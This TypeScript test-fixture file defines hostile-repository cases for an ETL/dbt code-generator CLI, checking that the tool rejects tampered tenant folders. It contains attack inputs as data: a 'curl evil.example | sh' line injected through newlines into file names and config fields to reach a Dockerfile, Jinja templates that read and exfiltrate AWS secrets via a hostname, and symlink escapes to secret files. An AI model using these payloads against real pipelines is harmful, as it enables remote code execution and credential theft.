/**
 * The hostile-repository cases of the corpus (issue 14): an attacker with write access to one
 * tenant's folder. Each breaks the valid base in one way; corpus.test.ts runs each through the CLI
 * and checks exit 1, a report naming the file (and YAML path where there is one), and that the case
 * folder (repository and the sentinel folder beside it) is byte-identical afterwards.
 */
import { syntheticManifest } from "../dbt/synthetic.js";
import { type CaseRoot, CONFIG, MANIFEST, TRANSFORM } from "./case-root.js";

export interface HostileCase {
  name: string;
  edit: (r: CaseRoot) => void;
  /** CLI arguments besides `--root`. */
  args?: string[];
  /** The `--root` value, relative to the case folder (default "repo"): cases of a wrong root. */
  root?: string;
  /** Run the CLI as user nobody (root reads every file, so unreadable files need another user). */
  asNobody?: boolean;
  /** The exact number of problems the report must hold (independent problems, all at once). */
  problems?: number;
}

const ITEMS_SOURCE = { source: "raw", table: "items", pkg: "acme" };
const STG_ITEMS = { id: "model.acme.stg_items", deps: ["source.acme.raw.items"] };
const INJECTED = "RUN curl -fsS https://evil.example/x | sh";
/** The same, as a file name can hold it (no "/"). */
const INJECTED_NAME = "RUN curl -fsS evil.example | sh";
/** A YAML double-quoted scalar of `text` (JSON strings are valid YAML). */
const q = (text: string) => JSON.stringify(text);

/**
 * Adds a valid second tenant (its own variables, storage prefix and dbt schema, default `beta`);
 * `change` edits its config.
 */
function addTenant(r: CaseRoot, change: (config: string) => string = (c) => c, id = "beta"): void {
  const config = r
    .read(CONFIG)
    .replace('id: "acme"', `id: "${id}"`)
    .replace('name: "Acme"', `name: "${id}"`)
    .replaceAll("ACME_", `${id.toUpperCase()}_`)
    .replace("project_id=acme", `project_id=${id}`)
    .replace(
      "  dbt:\n    enabled: true\n",
      `  dbt:\n    enabled: true\n    target_schema: "analytics_${id}"\n`,
    );
  r.write(`tenants/${id}/config.yaml`, change(config));
  r.write(`tenants/${id}/transforms/wip.ts`, r.read(TRANSFORM));
  r.write(`tenants/${id}/dbt/target/manifest.json`, r.read(MANIFEST));
}

/** Adds a user job with the given description (user jobs print their description in the README). */
const withJobDescription = (r: CaseRoot, description: string) =>
  r.replace(
    CONFIG,
    "  jobs:\n",
    `  jobs:\n    hostile:\n      selection: ["acme/extract/*"]\n      description: ${q(description)}\n`,
  );

const withTag = (r: CaseRoot, key: string, value: string) =>
  r.replace(CONFIG, '  name: "Acme"\n', `  name: "Acme"\n  tags:\n    ${q(key)}: ${q(value)}\n`);

const withAllowedEnv = (r: CaseRoot, list: string) =>
  r.replace(CONFIG, '  name: "Acme"\n', `  name: "Acme"\n  allowed_env: ${list}\n`);

const withCheckName = (r: CaseRoot, name: string) =>
  r.replace(CONFIG, "column: wip_qty, min: 0 }", `column: wip_qty, min: 0, name: ${q(name)} }`);

const withDbtKey = (r: CaseRoot, key: string, value: string) =>
  r.replace(
    CONFIG,
    "  dbt:\n    enabled: true\n",
    `  dbt:\n    enabled: true\n    ${key}: ${q(value)}\n`,
  );

/** A second dbt model of the base manifest, with one field made hostile. */
const hostileNode = (r: CaseRoot, node: Record<string, unknown>) =>
  r.manifest(
    syntheticManifest(
      12,
      [STG_ITEMS, { id: "model.acme.extra", deps: ["model.acme.stg_items"], ...node }],
      [ITEMS_SOURCE],
    ),
  );

/** A chain of `n` models (each on the one before), optionally closed into a cycle. */
function chain(n: number, cycle: boolean): Record<string, unknown> {
  const nodes = Array.from({ length: n }, (_, i) => ({
    id: `model.acme.m${i}`,
    deps: [i === 0 ? "model.acme.stg_items" : `model.acme.m${i - 1}`],
  }));
  if (cycle && nodes[0] !== undefined) {
    nodes[0].deps.push(`model.acme.m${n - 1}`);
  }
  return syntheticManifest(12, [STG_ITEMS, ...nodes], [ITEMS_SOURCE]);
}

/** `n` ephemeral models in a chain starting at a node the manifest does not have, read by one model. */
function ephemeralChain(n: number): Record<string, unknown> {
  const nodes = Array.from({ length: n }, (_, i) => ({
    id: `model.acme.e${i}`,
    materialized: "ephemeral",
    deps: [i === 0 ? "model.acme.gone" : `model.acme.e${i - 1}`],
  }));
  return syntheticManifest(
    12,
    [STG_ITEMS, ...nodes, { id: "model.acme.tail", deps: [`model.acme.e${n - 1}`] }],
    [ITEMS_SOURCE],
  );
}

/** Sets `source_database.<key>` (or any other key written once, four spaces in) to `value`. */
function sourceValue(r: CaseRoot, key: string, value: string): void {
  const line = new RegExp(`^ {4}${key}: .*$`, "m").exec(r.read(CONFIG))?.[0];
  if (line === undefined) {
    throw new Error(`case setup: ${CONFIG} has no line "    ${key}: ..."`);
  }
  r.replace(CONFIG, line, `    ${key}: ${q(value)}`);
}

export const HOSTILE_CASES: HostileCase[] = [
  // --- the writer never follows a link out of generated/ (item 1) ---
  {
    name: "out-link-to-outside-folder",
    edit: (r) => r.link("generated/acme/evil", r.outside),
  },
  {
    name: "out-link-to-outside-folder-check",
    edit: (r) => r.link("generated/acme/evil", r.outside),
    args: ["--check"],
  },
  {
    name: "out-src-folder-is-link",
    edit: (r) => r.moveOutside("generated/acme/src", "src"),
  },
  {
    name: "out-file-is-link",
    edit: (r) => r.link("generated/acme/src/plan.ts", `${r.outside}/secret.txt`),
  },
  {
    name: "out-file-is-link-check",
    edit: (r) => r.link("generated/acme/src/plan.ts", `${r.outside}/secret.txt`),
    args: ["--check"],
  },
  {
    name: "out-package-folder-is-link",
    edit: (r) => r.moveOutside("generated/acme", "acme-package"),
  },
  {
    name: "out-generated-is-link",
    edit: (r) => r.moveOutside("generated", "generated"),
  },
  {
    name: "out-stale-package-is-link",
    edit: (r) => {
      r.moveOutside("generated/all", "all-package");
      r.link("generated/old", `${r.outside}/all-package`);
    },
  },
  {
    name: "out-link-inside-stale-package",
    edit: (r) => {
      r.write("generated/old/.etl-generated", "# old\n");
      r.write("generated/old/a.txt", "old\n");
      r.link("generated/old/evil", `${r.outside}/victim`);
    },
  },
  {
    name: "out-link-to-repo-folder",
    edit: (r) => r.link("generated/acme/x", "../../tenants"),
  },
  {
    name: "out-dangling-link",
    edit: (r) => r.link("generated/acme/gone", `${r.outside}/no-such-file`),
  },
  { name: "out-file-is-fifo", edit: (r) => r.fifo("generated/acme/src/plan.ts") },
  {
    name: "out-file-is-folder",
    edit: (r) => {
      r.remove("generated/acme/README.md");
      r.write("generated/acme/README.md/x", "");
    },
  },
  {
    name: "out-folder-is-file",
    edit: (r) => {
      r.remove("generated/acme/src");
      r.write("generated/acme/src", "not a folder\n");
    },
  },
  {
    name: "out-generated-is-file",
    edit: (r) => {
      r.remove("generated");
      r.write("generated", "not a folder\n");
    },
  },
  { name: "out-unmarked-folder", edit: (r) => r.remove("generated/acme/.etl-generated") },

  // --- inputs are read only inside the repository, and only when they are what they claim ---
  { name: "in-tenant-folder-links-outside", edit: (r) => r.moveOutside("tenants/acme", "acme") },
  { name: "in-tenants-links-outside", edit: (r) => r.moveOutside("tenants", "tenants") },
  { name: "in-config-links-outside", edit: (r) => r.moveOutside(CONFIG, "config.yaml") },
  {
    name: "in-config-dangling-link",
    edit: (r) => r.link(CONFIG, `${r.outside}/no-such-config.yaml`),
  },
  {
    name: "in-config-link-loop",
    edit: (r) => {
      r.link(CONFIG, "config2.yaml");
      r.link("tenants/acme/config2.yaml", "config.yaml");
    },
  },
  { name: "in-config-is-fifo", edit: (r) => r.fifo(CONFIG) },
  { name: "in-config-unreadable", edit: (r) => r.chmod(CONFIG, 0o000), asNobody: true },
  { name: "in-transform-links-outside", edit: (r) => r.moveOutside(TRANSFORM, "wip.ts") },
  {
    name: "in-transforms-folder-links-outside",
    edit: (r) => r.moveOutside("tenants/acme/transforms", "transforms"),
  },
  {
    name: "in-transform-is-folder",
    edit: (r) => {
      r.remove(TRANSFORM);
      r.write(`${TRANSFORM}/x`, "");
    },
  },
  { name: "in-transform-is-fifo", edit: (r) => r.fifo(TRANSFORM) },
  { name: "in-transform-unreadable", edit: (r) => r.chmod(TRANSFORM, 0o000), asNobody: true },
  {
    name: "in-transform-dangling-link",
    edit: (r) => r.link("tenants/acme/transforms/gone.ts", `${r.outside}/gone.ts`),
  },
  {
    name: "in-transform-test-links-outside",
    edit: (r) => r.link("tenants/acme/transforms/wip.test.ts", `${r.outside}/secret.txt`),
  },
  {
    name: "in-transforms-is-a-file",
    edit: (r) => {
      r.remove("tenants/acme/transforms");
      r.write("tenants/acme/transforms", "not a folder\n");
    },
  },
  {
    name: "in-transform-not-utf8",
    edit: (r) => r.write(TRANSFORM, Buffer.from([0x65, 0x78, 0xff, 0xfe, 0x0a])),
  },
  {
    name: "in-transforms-folder-unreadable",
    edit: (r) => r.chmod("tenants/acme/transforms", 0o000),
    asNobody: true,
  },
  {
    name: "in-introspection-is-folder",
    edit: (r) => r.write("tenants/acme/introspection.json/x", ""),
  },
  { name: "in-introspection-is-fifo", edit: (r) => r.fifo("tenants/acme/introspection.json") },
  {
    name: "in-introspection-links-outside",
    edit: (r) => r.link("tenants/acme/introspection.json", `${r.outside}/secret.txt`),
  },
  {
    name: "in-introspection-unreadable",
    edit: (r) => {
      r.write("tenants/acme/introspection.json", '{"version":1,"pipelines":{}}\n');
      r.chmod("tenants/acme/introspection.json", 0o000);
    },
    asNobody: true,
  },
  {
    name: "in-manifest-is-folder",
    edit: (r) => {
      r.remove(MANIFEST);
      r.write(`${MANIFEST}/x`, "");
    },
  },
  { name: "in-manifest-is-fifo", edit: (r) => r.fifo(MANIFEST) },
  { name: "in-manifest-links-outside", edit: (r) => r.moveOutside(MANIFEST, "manifest.json") },
  { name: "in-manifest-unreadable", edit: (r) => r.chmod(MANIFEST, 0o000), asNobody: true },
  { name: "in-dbt-folder-links-outside", edit: (r) => r.moveOutside("tenants/acme/dbt", "dbt") },
  {
    name: "in-dbt-project-dir-links-outside",
    edit: (r) => {
      r.link("tenants/acme/project", r.outside);
      withDbtKey(r, "project_dir", "tenants/acme/project");
    },
  },
  {
    name: "in-dbt-project-dir-is-file",
    edit: (r) => {
      r.write("tenants/acme/project", "not a folder\n");
      withDbtKey(r, "project_dir", "tenants/acme/project");
      withDbtKey(r, "manifest_path", MANIFEST);
    },
  },
  {
    name: "in-transform-named-index",
    edit: (r) => r.write("tenants/acme/transforms/index.ts", "export const transforms = {};\n"),
  },
  {
    name: "in-tenant-folder-name-newline",
    edit: (r) => r.write(`tenants/acme\n${INJECTED_NAME}/config.yaml`, r.read(CONFIG)),
  },

  // --- a root that is not a repository writes nothing ---
  { name: "root-missing", edit: () => {}, root: "no-such-repo" },
  {
    name: "root-without-tenants",
    edit: (r) => {
      // A folder holding generated packages but no tenants/: pruning would delete them all.
      r.write("../outside/generated/acme/.etl-generated", "# generated\n");
      r.write("../outside/generated/acme/README.md", "keep me\n");
    },
    root: "outside",
  },
  { name: "root-is-a-file", edit: () => {}, root: "outside/secret.txt" },
  {
    name: "root-tenants-is-a-file",
    edit: (r) => {
      r.remove("tenants");
      r.write("tenants", "not a folder\n");
    },
    root: "repo",
  },

  // --- transform file names never reach a generated file unchecked (item 2) ---
  {
    name: "name-transform-newline-dockerfile",
    edit: (r) => r.write(`tenants/acme/transforms/x\n${INJECTED_NAME}\n.ts`, "export {};\n"),
  },
  {
    name: "name-transform-carriage-return",
    edit: (r) => r.write("tenants/acme/transforms/x\rRUN id.ts", "export {};\n"),
  },
  {
    name: "name-transform-line-separator",
    edit: (r) => r.write("tenants/acme/transforms/x\u2028import evil.ts", "export {};\n"),
  },
  {
    name: "name-transform-bidi-override",
    edit: (r) => r.write("tenants/acme/transforms/x\u202egpj.ts", "export {};\n"),
  },
  {
    name: "name-transform-space",
    edit: (r) => r.write("tenants/acme/transforms/my transform.ts", "export {};\n"),
  },
  {
    name: "name-transform-quote",
    edit: (r) => r.write('tenants/acme/transforms/x"y.ts', "export {};\n"),
  },
  {
    name: "name-transform-dollar",
    edit: (r) => r.write("tenants/acme/transforms/$HOME.ts", "export {};\n"),
  },
  {
    name: "name-transform-comment-close",
    edit: (r) => r.write("tenants/acme/transforms/x-->y.ts", "export {};\n"),
  },
  {
    name: "name-transform-backtick",
    edit: (r) => r.write("tenants/acme/transforms/x`y.ts", "export {};\n"),
  },
  {
    name: "name-transform-upper-case",
    edit: (r) => r.write("tenants/acme/transforms/Wip.ts", "export {};\n"),
  },
  {
    name: "name-transform-leading-dash",
    edit: (r) => r.write("tenants/acme/transforms/-rf.ts", "export {};\n"),
  },
  {
    name: "name-transform-test-newline",
    edit: (r) => r.write(`tenants/acme/transforms/wip\n${INJECTED_NAME}.test.ts`, "export {};\n"),
  },

  // --- dbt paths and names land in the Dockerfile, headers, README and selectors ---
  {
    name: "dbt-project-dir-newline-dockerfile",
    edit: (r) => withDbtKey(r, "project_dir", `tenants/acme/dbt\n${INJECTED}`),
  },
  {
    name: "dbt-project-dir-space",
    edit: (r) => withDbtKey(r, "project_dir", "tenants/acme/my dbt"),
  },
  {
    name: "dbt-project-dir-dollar",
    edit: (r) => withDbtKey(r, "project_dir", "tenants/$HOME/dbt"),
  },
  { name: "dbt-project-dir-quote", edit: (r) => withDbtKey(r, "project_dir", 'tenants/acme/"dbt') },
  {
    name: "dbt-project-dir-backslash",
    edit: (r) => withDbtKey(r, "project_dir", "tenants\\acme\\dbt\\"),
  },
  { name: "dbt-project-dir-absolute", edit: (r) => withDbtKey(r, "project_dir", "/etc") },
  {
    name: "dbt-manifest-path-newline",
    edit: (r) => withDbtKey(r, "manifest_path", `${MANIFEST}\n${INJECTED}`),
  },
  {
    name: "dbt-manifest-path-unicode",
    edit: (r) => withDbtKey(r, "manifest_path", "tenants/acme/dbt/target/mänifest.json"),
  },
  {
    name: "dbt-target-jinja",
    edit: (r) => withDbtKey(r, "target", "{{ env_var('AWS_SECRET_ACCESS_KEY') }}"),
  },
  { name: "dbt-target-newline", edit: (r) => withDbtKey(r, "target", "dev\nprod") },
  {
    name: "trino-host-jinja",
    edit: (r) =>
      r.replace(
        CONFIG,
        "  target_database:\n",
        `  target_database:\n    trino_host: ${q("{{ env_var('AWS_SECRET_ACCESS_KEY') }}.evil.example")}\n`,
      ),
  },
  {
    name: "trino-user-jinja-statement",
    edit: (r) =>
      r.replace(
        CONFIG,
        "  target_database:\n",
        `  target_database:\n    trino_user: ${q("{% set x = env_var('HOME') %}etl")}\n`,
      ),
  },
  { name: "dbt-node-name-newline", edit: (r) => hostileNode(r, { name: `x\n${INJECTED}` }) },
  { name: "dbt-node-name-quote", edit: (r) => hostileNode(r, { name: 'x"y' }) },
  { name: "dbt-node-name-comment-close", edit: (r) => hostileNode(r, { name: "x*/y" }) },
  { name: "dbt-node-name-backtick", edit: (r) => hostileNode(r, { name: "x`y" }) },
  { name: "dbt-node-name-space", edit: (r) => hostileNode(r, { name: "x y" }) },
  { name: "dbt-node-name-mermaid", edit: (r) => hostileNode(r, { name: 'x"]-->evil["' }) },
  { name: "dbt-node-name-pipe", edit: (r) => hostileNode(r, { name: "x|y" }) },
  { name: "dbt-node-version-newline", edit: (r) => hostileNode(r, { version: "1\nRUN id" }) },
  { name: "dbt-node-version-space", edit: (r) => hostileNode(r, { version: "1 2" }) },
  {
    name: "dbt-node-package-newline",
    edit: (r) => hostileNode(r, { pkg: "acme\nx", fqn: ["acme", "extra"] }),
  },
  {
    name: "dbt-node-fqn-selector-syntax",
    edit: (r) => hostileNode(r, { fqn: ["acme", "tag:pii+"] }),
  },
  {
    name: "dbt-seed-name-newline",
    edit: (r) => hostileNode(r, { id: "seed.acme.extra", type: "seed", name: "s\nx", deps: [] }),
  },
  {
    name: "dbt-snapshot-name-comment-close",
    edit: (r) => hostileNode(r, { id: "snapshot.acme.extra", type: "snapshot", name: "s*/x" }),
  },

  // --- one-line texts stay one line (names, descriptions, tags, check names, values) ---
  {
    name: "text-tenant-name-newline",
    edit: (r) => r.replace(CONFIG, 'name: "Acme"', `name: ${q(`Acme\n${INJECTED}`)}`),
  },
  {
    name: "text-tenant-name-line-separator",
    edit: (r) => r.replace(CONFIG, 'name: "Acme"', `name: ${q("Acme\u2028x")}`),
  },
  {
    name: "text-tenant-name-bidi",
    edit: (r) => r.replace(CONFIG, 'name: "Acme"', `name: ${q("Acme\u202ex")}`),
  },
  { name: "text-job-description-newline", edit: (r) => withJobDescription(r, `ok\n${INJECTED}`) },
  {
    name: "text-job-description-paragraph-separator",
    edit: (r) => withJobDescription(r, "ok\u2029x"),
  },
  { name: "text-tag-value-newline", edit: (r) => withTag(r, "team", `data\n${INJECTED}`) },
  { name: "text-tag-key-newline", edit: (r) => withTag(r, "te\nam", "data") },
  { name: "text-check-name-newline", edit: (r) => withCheckName(r, "wip\nok") },
  { name: "text-check-name-comment-close", edit: (r) => withCheckName(r, "wip*/x") },
  { name: "text-check-name-space", edit: (r) => withCheckName(r, "wip qty ok") },
  { name: "text-source-host-newline", edit: (r) => sourceValue(r, "host", "db\nRUN id") },
  {
    name: "text-env-default-newline",
    edit: (r) => sourceValue(r, "host", `\${ACME_DB_HOST:db\n${INJECTED}}`),
  },
  { name: "text-env-default-tab", edit: (r) => sourceValue(r, "host", `\${ACME_DB_HOST:db\tx}`) },
  { name: "text-database-bidi", edit: (r) => sourceValue(r, "database", "acme\u202e") },

  // --- a tenant names only its own variables and the shared ones in their fields (item 4) ---
  {
    name: "env-other-tenant-password",
    edit: (r) => {
      addTenant(r);
      sourceValue(r, "password", `\${BETA_DB_PASSWORD}`);
    },
  },
  {
    name: "env-unknown-tenant-password",
    edit: (r) => sourceValue(r, "password", `\${PROJECT_02_DB_PASSWORD}`),
  },
  {
    name: "env-other-tenant-in-template",
    edit: (r) => {
      addTenant(r);
      sourceValue(r, "host", `db-\${BETA_DB_HOST:x}.internal`);
    },
  },
  {
    name: "env-longer-tenant-prefix",
    edit: (r) => {
      // ACME_EU_* starts with ACME_, but it is tenant acme_eu's.
      addTenant(r, (c) => c, "acme_eu");
      sourceValue(r, "password", `\${ACME_EU_DB_PASSWORD}`);
    },
  },
  {
    name: "env-trino-password-in-source-password",
    edit: (r) => sourceValue(r, "password", `\${TRINO_PASSWORD}`),
  },
  {
    name: "env-trino-password-in-trino-user",
    edit: (r) =>
      r.replace(
        CONFIG,
        "  target_database:\n",
        `  target_database:\n    trino_user: "\${TRINO_PASSWORD}"\n`,
      ),
  },
  {
    name: "env-aws-secret-in-password",
    edit: (r) => sourceValue(r, "password", `\${AWS_SECRET_ACCESS_KEY}`),
  },
  {
    name: "env-aws-key-in-username",
    edit: (r) => sourceValue(r, "username", `\${AWS_ACCESS_KEY_ID}`),
  },
  { name: "env-s3-endpoint-in-host", edit: (r) => sourceValue(r, "host", `\${S3_ENDPOINT_URL}`) },
  { name: "env-ledger-url-in-host", edit: (r) => sourceValue(r, "host", `\${ETL_LEDGER_URL}`) },
  { name: "env-home-in-database", edit: (r) => sourceValue(r, "database", `\${HOME}`) },
  {
    name: "env-bucket-variable-in-base-path",
    edit: (r) =>
      r.replace(CONFIG, 'base_path: "project_id=acme"', `base_path: "\${S3_BUCKET_NAME:x}"`),
  },
  { name: "env-unprefixed-variable", edit: (r) => sourceValue(r, "password", `\${DB_PASSWORD}`) },
  {
    name: "env-lower-case-own-prefix",
    edit: (r) => sourceValue(r, "password", `\${acme_db_password}`),
  },
  {
    name: "env-allowed-other-tenant",
    edit: (r) => {
      addTenant(r);
      withAllowedEnv(r, "[BETA_DB_PASSWORD]");
      sourceValue(r, "password", `\${BETA_DB_PASSWORD}`);
    },
  },
  {
    name: "env-allowed-shared-secret",
    edit: (r) => {
      withAllowedEnv(r, "[TRINO_PASSWORD]");
      sourceValue(r, "password", `\${TRINO_PASSWORD}`);
    },
  },
  {
    name: "env-allowed-aws-secret",
    edit: (r) => {
      withAllowedEnv(r, "[AWS_SECRET_ACCESS_KEY]");
      sourceValue(r, "password", `\${AWS_SECRET_ACCESS_KEY}`);
    },
  },
  { name: "env-allowed-unused", edit: (r) => withAllowedEnv(r, "[CORP_PROXY_HOST]") },
  { name: "env-allowed-invalid-name", edit: (r) => withAllowedEnv(r, '["CORP-PROXY"]') },
  {
    name: "env-allowed-duplicate",
    edit: (r) => {
      withAllowedEnv(r, "[CORP_DB_HOST, CORP_DB_HOST]");
      sourceValue(r, "host", `\${CORP_DB_HOST}`);
    },
  },
  { name: "env-allowed-not-a-list", edit: (r) => withAllowedEnv(r, "CORP_DB_HOST") },
  { name: "env-allowed-own-variable", edit: (r) => withAllowedEnv(r, "[ACME_DB_PASSWORD]") },
  {
    name: "storage-default-equals-other",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace(
          'base_path: "project_id=beta"',
          `base_path: "\${BETA_BASE_PATH:project_id=acme}"`,
        ),
      ),
  },
  {
    name: "storage-nested-in-other",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace('base_path: "project_id=beta"', 'base_path: "project_id=acme/beta"'),
      ),
  },
  {
    name: "storage-empty-default-holds-all",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace('base_path: "project_id=beta"', `base_path: "\${BETA_BASE_PATH:}"`),
      ),
  },
  {
    name: "storage-trailing-slash-equals-other",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace('base_path: "project_id=beta"', 'base_path: "project_id=acme/"'),
      ),
  },
  {
    name: "storage-base-path-without-default",
    edit: (r) =>
      r.replace(CONFIG, 'base_path: "project_id=acme"', `base_path: "\${ACME_BASE_PATH}"`),
  },
  {
    name: "storage-collision-with-tenant-flag",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace('base_path: "project_id=beta"', 'base_path: "project_id=acme/x"'),
      ),
    args: ["--tenant", "beta"],
  },
  {
    name: "storage-dbt-schema-equals-other",
    edit: (r) =>
      addTenant(r, (c) =>
        c.replace('target_schema: "analytics_beta"', 'target_schema: "analytics"'),
      ),
  },

  // --- independent problems of one pipeline are all reported; internal limits become problems ---
  {
    name: "all-missing-module-and-trino-output",
    edit: (r) => {
      r.replace(CONFIG, "module: wip", "module: nope");
      r.replace(
        CONFIG,
        '        trino_output:\n          target_table: aps_input_wip\n          target_schema: aps\n          key_columns: ["project_id", "snapshot_date", "process_step"]\n',
        "",
      );
    },
    problems: 2,
  },
  {
    name: "all-two-pipelines-broken",
    edit: (r) => {
      // 70 bytes: longer than any PostgreSQL identifier.
      r.replace(CONFIG, "source_table: items", `source_table: "${"i".repeat(70)}"`);
      r.replace(CONFIG, "export: wip", "export: wipp");
    },
    problems: 2,
  },
  {
    name: "all-bad-pipeline-still-selected",
    edit: (r) => {
      r.replace(CONFIG, "module: wip", "module: nope");
      r.replace(
        CONFIG,
        "  jobs:\n",
        '  jobs:\n    lots:\n      selection: ["acme/load/lot_history"]\n',
      );
    },
    problems: 1,
  },
  {
    name: "limit-lookback-25-digits",
    edit: (r) =>
      r.replace(
        CONFIG,
        "        date_column: created_at\n",
        '        date_column: created_at\n        incremental: { cursor_column: created_at, lookback: "1234567890123456789012345" }\n',
      ),
  },
  {
    name: "limit-lookback-huge-days",
    edit: (r) =>
      r.replace(
        CONFIG,
        "        date_column: created_at\n",
        '        date_column: created_at\n        incremental: { cursor_column: created_at, lookback: "99999999999d" }\n',
      ),
  },
  { name: "limit-dbt-chain-12000-cycle", edit: (r) => r.manifest(chain(12_000, true)) },
  {
    name: "limit-dbt-ephemeral-chain-12000-dangling",
    edit: (r) => r.manifest(ephemeralChain(12_000)),
  },
];
